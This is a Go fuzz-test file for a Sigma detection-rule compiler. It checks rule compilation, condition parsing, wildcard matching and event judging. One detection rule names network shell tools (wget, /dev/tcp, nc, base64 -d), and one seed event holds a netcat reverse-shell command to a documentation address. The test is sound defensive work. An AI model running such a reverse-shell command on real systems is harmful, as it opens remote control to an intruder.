package sigma

import (
	"bytes"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tocsin-ir/tocsin/sensor/event"
)

// Whatever is given as a file of rules: Compile comes back, and the index judges as
// looking at every rule would.
func FuzzCompile(f *testing.F) {
	for _, s := range synthetic(12, 1) {
		f.Add(s.Text)
	}
	f.Add([]byte(rule("    s: {a|re|i: '(x|y)+', b|cidr: 10.0.0.0/8, c|windash|contains|all: ['-a', '/b']}\n    k: [w, 'v*']\n    condition: s or not 1 of k*\n")))
	f.Add([]byte("title: c\ncorrelation:\n  type: value_percentile\n  rules: [x]\n  group-by: [User]\n  timespan: 5m\n  condition: {field: Image, lte: 1}\n---\ntitle: x\nname: x\nlogsource: {category: process_creation}\ndetection: {s: {Image|exists: true}, condition: s}\n"))
	f.Add([]byte("title: f\nlogsource: {product: linux}\nfilter: {rules: any, s: {User|startswith: adm_}, condition: not s}\n"))
	events := workload()
	f.Fuzz(func(t *testing.T, text []byte) {
		if len(text) > 4_096 {
			return
		}
		set, problems := Compile([]File{{"fuzz.yml", text}}, Options{Placeholders: map[string][]string{"x": {"1", "2*"}}})
		for _, p := range problems {
			if p.Why == "" || p.File != "fuzz.yml" {
				t.Errorf("%#v", p)
			}
		}
		for i := range events {
			if why := differ(set, &events[i]); why != "" {
				t.Error(why)
			}
			for _, r := range set.Rules() {
				if Explain(set, r, &events[i]) == "" {
					t.Error("nothing is said of", r.Title)
				}
			}
		}
	})
}

func FuzzCondition(f *testing.F) {
	for _, c := range []string{"a", "a and not (b or c_1)", "1 of c_* and all of them", "not not a", "((a)", "1 of", "a | count() > 5", "any of *_1"} {
		f.Add(c)
	}
	names := []string{"a", "b", "c_1", "c_2"}
	f.Fuzz(func(t *testing.T, text string) {
		selections := map[string]*node{}
		for i, n := range names {
			selections[n] = &node{op: opLeaf, leaf: &leaf{field: i, groups: [][]atom{{{op: exists}}}}}
		}
		r := &reading{document: document{file: "f", line: 1}}
		n := parseCondition(text, names, selections, map[string]bool{}, part{r: r, line: 1, column: 1})
		if (n == nil) != r.broken || (n == nil) != (len(r.problems) > 0) {
			t.Errorf("%q: a tree: %v, problems: %v", text, n != nil, r.problems)
		}
	})
}

// A pattern matches what the same thing as a regular expression matches.
func FuzzPattern(f *testing.F) {
	for _, p := range []string{"a*b", "?x*", `\*\\*`, "*a*b?c*", "", "**", "a", "ä?*"} {
		f.Add(p, "aXb", false)
		f.Add(p, `*\c`, true)
	}
	f.Fuzz(func(t *testing.T, p, text string, cased bool) {
		if len(p) > 60 || len(text) > 300 || !utf8.ValidString(p) || !utf8.ValidString(text) {
			return
		}
		a := atomOf(parsePattern(p), cased)
		flags := "(?is)"
		low := appendFolded(nil, []byte(text))
		if cased {
			flags = "(?s)"
		}
		want := regexp.MustCompile(flags + "^(?:" + wildcards(p) + ")$").MatchString(text)
		got := a.text(low, []byte(text))
		if a.op == anything {
			got = true
		}
		if got != want {
			t.Errorf("%q over %q: %v", p, text, got)
		}
		if k := a.keys(1); got && k.keys != nil && !keyIn(k.keys[0], low) {
			t.Errorf("%q over %q: the key %q is not there", p, text, k.keys[0].lit)
		}
	})
}

func keyIn(k key, low []byte) bool {
	switch lit := []byte(k.lit); k.how {
	case is:
		return bytes.Equal(low, lit)
	case begins:
		return bytes.HasPrefix(low, lit)
	case ends:
		return bytes.HasSuffix(low, lit)
	default:
		return bytes.Contains(low, lit)
	}
}

// Events of any content are judged by the index as they are plainly.
func FuzzJudge(f *testing.F) {
	files := synthetic(60, 2)
	files = append(files, File{"k.yml", []byte(rule("    k: ['|', 'wget', '/dev/tcp/']\n    r: {CommandLine|re: '(?i)base64\\s+-d|\\bnc\\b'}\n    condition: 1 of them\n"))})
	files[len(files)-1].Text = bytes.Replace(files[len(files)-1].Text, []byte("product: test"), []byte("product: linux"), 1)
	set, _ := Compile(files, Options{})
	f.Add("/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444", "/tmp", uint8(1))
	f.Add("", "", "/etc/cron.d/x", uint8(8))
	f.Fuzz(func(t *testing.T, exe, args, path string, kind uint8) {
		e := event.Event{Kind: event.Kind(kind), At: noon, Process: event.Process{Key: event.Key{PID: 1}, Exe: exe, Args: strings.Split(args, " ")},
			File: &event.FileOf{Op: "create", Path: path}, Exec: &event.ExecOf{}}
		if why := differ(set, &e); why != "" {
			t.Error(why)
		}
	})
}
